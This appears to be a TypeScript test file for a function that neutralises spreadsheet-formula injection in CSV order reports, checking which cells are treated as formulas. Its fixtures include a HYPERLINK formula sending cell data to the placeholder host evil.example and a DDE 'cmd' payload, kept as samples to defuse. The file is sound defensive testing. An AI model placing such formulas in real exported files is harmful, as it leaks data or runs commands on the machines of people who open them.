// The order report is saved with formula-like cells written as text: a value the service
// echoes (an order name) must not run as a spreadsheet formula when the file is opened.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { parse } from 'csv-parse/sync';
import { isFormulaLike, neutraliseCsv } from '../../../src/commands/reports/csvCells';

const rows = (text: string): string[][] => parse(text, { relax_column_count: true }) as string[][];

test('cells that begin with = + - @ (or a tab or CR) become text; numbers and other cells are kept byte for byte', () => {
  const text = [
    'order_id,name,amount,note',
    'o1,=HYPERLINK("http://evil.example/?"&A1;"x"),-12.5,plain',
    'o2,"+cmd|\' /C calc\'!A0",+3,"@SUM(1+1)"',
    'o3,"-2+3",1e3,"line one\r\n=two"',
    'o4,\tstart,-.5,""',
    '',
  ].join('\r\n');
  const out = neutraliseCsv(text);
  assert.equal(out.neutralised, 5);
  assert.deepEqual(rows(out.text), [
    ['order_id', 'name', 'amount', 'note'],
    ['o1', '\'=HYPERLINK("http://evil.example/?"&A1;"x")', '-12.5', 'plain'],
    ['o2', "'+cmd|' /C calc'!A0", '+3', "'@SUM(1+1)"],
    ['o3', "'-2+3", '1e3', 'line one\r\n=two'],
    ['o4', "'\tstart", '-.5', ''],
  ]);
  // a report with nothing to neutralise is written exactly as the service sent it
  const clean = 'a,b\n1,"x, y"\n2,-3\n';
  assert.deepEqual(neutraliseCsv(clean), { text: clean, neutralised: 0 });
});

test('what counts as a formula', () => {
  for (const v of ['=1', '+A1', '-A1', '@x', '\t=1', '-', '+-1x']) assert.ok(isFormulaLike(v), v);
  for (const v of ['-1', '+2.5', '-3e-4', '.5', 'a=b', '', ' =1']) assert.ok(!isFormulaLike(v), v);
});
